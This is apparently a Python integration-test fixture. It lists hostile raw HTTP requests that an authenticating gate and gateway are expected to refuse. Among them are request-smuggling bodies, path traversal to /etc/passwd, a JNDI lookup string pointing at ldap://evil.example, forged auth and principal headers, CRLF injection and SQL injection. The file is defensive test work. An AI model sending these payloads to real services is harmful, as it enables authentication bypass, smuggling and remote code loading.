"""Requests that nobody sends in good faith, as bytes. Those with the GOOD token are refused for what else they are."""

from collections.abc import Iterator
from dataclasses import dataclass

from tests.integration.gates import TOKEN

GOOD = f"Authorization: Bearer {TOKEN}".encode()
_JSON = b"Content-Type: application/json"
GATE, GATEWAY = "gate", "gateway"
BOTH = (GATE, GATEWAY)


@dataclass(frozen=True)
class Hostile:
    """`at` names the entrances where it is refused; elsewhere it is put right before it gets to anybody, and harmless.

    Of an `unfinished` one nothing more comes, so that there may be nobody to answer.
    """

    name: str
    data: bytes
    at: tuple[str, ...] = BOTH
    unfinished: bool = False


def request(line: bytes, *headers: bytes, body: bytes = b"") -> bytes:
    """A request that is answered once: the connection is closed afterwards."""
    return b"\r\n".join([line, b"Host: hub.example", b"Connection: close", *headers, b"", body])


def post(*headers: bytes, body: bytes = b"{}") -> bytes:
    """A JSON-RPC request with its length."""
    return request(b"POST / HTTP/1.1", _JSON, b"Content-Length: %d" % len(body), *headers, body=body)


def get(target: bytes, *headers: bytes) -> bytes:
    """A GET with the good token."""
    return request(b"GET " + target + b" HTTP/1.1", GOOD, *headers)


def _tokens() -> Iterator[Hostile]:
    token = TOKEN.encode()
    yield Hostile("no token", post())
    for name, authorization in (
        ("empty Authorization", b""),
        ("scheme only", b"Bearer"),
        ("Basic", b"Basic " + token),
        ("Digest", b'Digest username="a", response="' + token + b'"'),
        ("Token scheme", b"Token " + token),
        ("no scheme", token),
        ("tab for a blank", b"Bearer\t" + token),
        ("two tokens in one header", b"Bearer " + token + b", Bearer " + token),
        ("parameters after the token", b"Bearer " + token + b"; admin=true"),
        ("quoted token", b'Bearer "' + token + b'"'),
        ("percent-encoded token", b"Bearer %74oken-of-one-caller"),
        ("full-width token", "Bearer ｔｏｋｅｎ-of-one-caller".encode()),
        ("token and invisible character", f"Bearer {TOKEN}\u200b".encode()),
        ("Latin-1 in the token", b"Bearer " + token + b"\xff"),
        ("very long token", b"Bearer " + b"a" * 8000),
        ("oversized token", b"Bearer " + b"a" * 70_000),
        ("unsigned JWT", b"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9."),
        ("SQL in the token", b"Bearer ' OR 1=1 --"),
    ):
        yield Hostile(name, post(b"Authorization: " + authorization))
    yield Hostile("a good and a bad Authorization", post(GOOD, b"Authorization: Bearer forged"))
    yield Hostile("a bad and a good Authorization", post(b"Authorization: Bearer forged", GOOD))
    yield Hostile("the good Authorization twice", post(GOOD, GOOD))
    yield Hostile("forged X-Forwarded-Authorization", post(b"X-Forwarded-Authorization: Bearer forged"))
    yield Hostile(
        "good X-Forwarded-Authorization beside a bad token",
        post(b"Authorization: Bearer forged", b"X-Forwarded-Authorization: Bearer " + token),
    )
    yield Hostile("good token with an underscore", post(b"X_Forwarded_Authorization: Bearer " + token))
    yield Hostile("good token in X-Serverless-Authorization", post(b"X-Serverless-Authorization: Bearer " + token))
    yield Hostile("good token in Proxy-Authorization", post(b"Proxy-Authorization: Bearer " + token))
    yield Hostile("good token in a cookie", post(b"Cookie: access_token=" + token))
    yield Hostile("good token in the query", request(b"GET /routes?access_token=" + token + b" HTTP/1.1"))
    yield Hostile(
        "good Authorization in the query",
        request(b"GET /routes?Authorization=Bearer+" + token + b" HTTP/1.1"),
    )
    yield Hostile("good token in the body", post(body=b'{"access_token": "' + token + b'"}'))
    yield Hostile("forged principal", post(b"X-Hub-Principal: eyJzdWIiOiJhIn0.AAAA"))
    yield Hostile("forged principal with an underscore", post(b"X_Hub_Principal: eyJzdWIiOiJhIn0.AAAA"))
    yield Hostile("IAP's user", post(b"X-Goog-Authenticated-User-Email: accounts.google.com:admin@example.com"))
    yield Hostile("API Gateway's user", post(b"X-Apigateway-Api-Userinfo: eyJzdWIiOiJhIn0="))
    yield Hostile("a local address", post(b"X-Forwarded-For: 127.0.0.1", b"X-Real-IP: 127.0.0.1"))


def _headers() -> Iterator[Hostile]:
    for name, line in (
        ("blank before the colon", b"Authorization : Bearer x"),
        ("header without a colon", b"nonsense"),
        ("header without a name", b": value"),
        ("NUL in a value", b"X-Nul: a\x00b"),
        ("NUL in a name", b"X-N\x00ul: a"),
        ("bell in a value", b"X-Bell: a\x07b"),
        ("bad character in a name", b"X-(Bad): a"),
        ("Latin-1 in a name", b"X-B\xe9d: a"),
        ("one header of 70 kB", b"X-Large: " + b"a" * 70_000),
        ("40 kB of headers", b"\r\n".join(b"X-Large-%d: " % number + b"a" * 8000 for number in range(5))),
        ("200 headers", b"\r\n".join(b"X-Many-%d: a" % number for number in range(200))),
    ):
        yield Hostile(name, post(GOOD, line))
    yield Hostile(
        "WebSocket without a token", request(b"GET / HTTP/1.1", b"Upgrade: websocket", b"Content-Length: bad")
    )
    yield Hostile("no Host", b"POST / HTTP/1.1\r\n" + GOOD + b"\r\nContent-Length: 0\r\n\r\n")
    yield Hostile("two Hosts", post(GOOD, b"Host: evil.example"))
    # Put right by the gateway: one value in one line.
    yield Hostile("folded header", post(GOOD, b"X-Folded: a\r\n b"), at=(GATE,))
    yield Hostile("bare CR in a value", post(GOOD, b"X-Cr: a\rX-Hub-Principal: b"), at=(GATE,))


def _lengths() -> Iterator[Hostile]:
    smuggled = b"GET /debug-version HTTP/1.1\r\nHost: hub.example\r\n" + GOOD + b"\r\n\r\n"
    chunked = b"Transfer-Encoding: chunked"
    line = b"POST / HTTP/1.1"

    def lengths(name: str, *headers: bytes, body: bytes = b"{}", unfinished: bool = False) -> Hostile:
        return Hostile(name, request(line, GOOD, _JSON, *headers, body=body), unfinished=unfinished)

    both = b"0\r\n\r\n" + smuggled
    yield lengths("length and chunks", b"Content-Length: %d" % len(both), chunked, body=both)
    yield lengths("chunks and length", chunked, b"Content-Length: 5", body=both)
    yield lengths("two lengths", b"Content-Length: 2", b"Content-Length: 40", body=b"{}" + smuggled)
    yield lengths("a list of lengths", b"Content-Length: 2, 40", body=b"{}" + smuggled)
    yield lengths("negative length", b"Content-Length: -1")
    yield lengths("length with a sign", b"Content-Length: +2")
    yield lengths("length in hexadecimal", b"Content-Length: 0x2")
    yield lengths("length with an underscore", b"Content-Length: 1_0")
    yield lengths("length in other digits", "Content-Length: ２".encode())
    yield lengths("length of 20 digits", b"Content-Length: 99999999999999999999")
    yield lengths("length of 11 MB and nothing sent", b"Content-Length: 11000000", body=b"")
    yield lengths("chunked twice", b"Transfer-Encoding: chunked, chunked", body=b"0\r\n\r\n")
    yield lengths("an unknown encoding", b"Transfer-Encoding: xchunked", body=b"0\r\n\r\n")
    yield lengths("chunked, then another", b"Transfer-Encoding: chunked, identity", body=b"0\r\n\r\n")
    yield lengths("vertical tab before chunked", b"Transfer-Encoding: \x0bchunked", body=b"0\r\n\r\n")
    yield lengths("blank before the encoding's colon", b"Transfer-Encoding : chunked", body=both)
    yield lengths("chunk size that is no number", chunked, body=b"zz\r\n{}\r\n0\r\n\r\n")
    yield lengths("negative chunk size", chunked, body=b"-2\r\n{}\r\n0\r\n\r\n")
    yield lengths("chunk size with 0x", chunked, body=b"0x2\r\n{}\r\n0\r\n\r\n")
    yield lengths("chunk without its end", chunked, body=b"2\r\n{}XX0\r\n\r\n")
    yield lengths("huge chunk size", chunked, body=b"F" * 20 + b"\r\n{}\r\n0\r\n\r\n", unfinished=True)
    yield lengths("chunks that break off", chunked, body=b"2\r\n{}\r\n", unfinished=True)
    yield lengths("a body that breaks off", b"Content-Length: 3", unfinished=True)


def _targets() -> Iterator[Hostile]:
    for name, target in (
        ("two slashes at the start", b"//debug-version"),
        ("two slashes inside", b"/tasks//x"),
        ("encoded slash", b"/tools%2Fquery"),
        ("double encoding", b"/tasks/%252e%252e%252froutes"),
        ("out of the root", b"/%2e%2e/%2e%2e/etc/passwd"),
        ("out of the root, plain", b"/../../etc/passwd"),
        ("overlong UTF-8", b"/%c0%ae%c0%ae/routes"),
        ("path parameter at the end", b"/routes;x=1"),
        ("backslash", b"/\\routes"),
        ("encoded NUL", b"/routes%00"),
        ("encoded line end", b"/routes%0d%0aX-Hub-Principal:%20a"),
        ("half an escape", b"/routes%"),
        ("no escape", b"/routes%zz"),
        ("raw UTF-8", "/経路".encode()),
        ("encoded UTF-8", b"/tasks/%E7%B5%8C"),
        ("full-width letters", "/ｒｏｕｔｅｓ".encode()),
        ("capital letters", b"/Debug-Version/../Routes"),
        ("a path to make an expression go back", b"/" + b"a" * 60 + b"!"),
        ("3,000 characters", b"/" + b"a" * 3000 + b"!"),
        ("100,000 characters", b"/" + b"a" * 100_000),
        ("a path that is no path", b"routes"),
        ("another server's address", b"http://evil.example//routes"),
        ("a file's address", b"file:///etc/passwd"),
        ("expression language", b"/${jndi:ldap://evil.example/a}"),
        ("a tag", b"/<script>"),
    ):
        yield Hostile(name, get(target))
    # Put right by the gateway, as API Gateway does it: then it is a request for that page, no more.
    for name, target in (
        ("dot segments", b"/tasks/../routes"),
        ("encoded dot segments", b"/tasks/%2e%2e/routes"),
        ("a dot segment", b"/./routes"),
        ("an encoded letter", b"/%72outes"),
        ("path parameter", b"/..;/routes"),
        ("backslashes up", b"/tasks\\..\\routes"),
    ):
        yield Hostile(name, get(target), at=(GATE,))


def _addresses() -> Iterator[Hostile]:
    # Servers must accept the absolute form (RFC 9112 §3.2.2): it is a request for that page, no more.
    yield Hostile("absolute form", get(b"http://hub.example/routes"), at=())
    yield Hostile("a user's name in an address", get(b"http://a:b@evil.example/nothing/here"), at=(GATEWAY,))


def _methods() -> Iterator[Hostile]:
    for method in (b"PUT", b"PATCH", b"OPTIONS", b"TRACE", b"PROPFIND", b"DEBUG", b"get", b"GET;", b"G\x00T"):
        yield Hostile(f"method {method!r}", request(method + b" / HTTP/1.1", GOOD))
    yield Hostile("CONNECT", request(b"CONNECT evil.example:443 HTTP/1.1", GOOD))
    yield Hostile("CONNECT to a path", request(b"CONNECT /routes HTTP/1.1", GOOD))
    yield Hostile("OPTIONS *", request(b"OPTIONS * HTTP/1.1", GOOD))
    for name in (b"X-HTTP-Method-Override", b"X-Method-Override", b"X-HTTP-Method"):
        yield Hostile(f"{name.decode()} on TRACE", request(b"TRACE / HTTP/1.1", GOOD, name + b": POST"))
    yield Hostile("_method in the query", request(b"PUT /?_method=POST HTTP/1.1", GOOD))
    yield Hostile("HTTP/0.9", b"GET /routes\r\n\r\n")
    yield Hostile("HTTP/1.0 without a token", b"GET /routes HTTP/1.0\r\n\r\n")
    yield Hostile("HTTP/3.7", request(b"GET /routes HTTP/3.7", GOOD))
    yield Hostile(
        "HTTP/2 by prior knowledge",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00" + b"\x00" * 4,
    )
    yield Hostile("no HTTP", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n")
    # RFC 9112 §3 lets a server be lenient with blanks, as both are; the gateway is with tabs.
    yield Hostile("blanks in the request line", request(b"GET  /routes  HTTP/1.1", GOOD), at=())
    yield Hostile("tab in the request line", request(b"GET\t/routes\tHTTP/1.1", GOOD), at=(GATE,))


HOSTILE = (*_tokens(), *_headers(), *_lengths(), *_targets(), *_addresses(), *_methods())
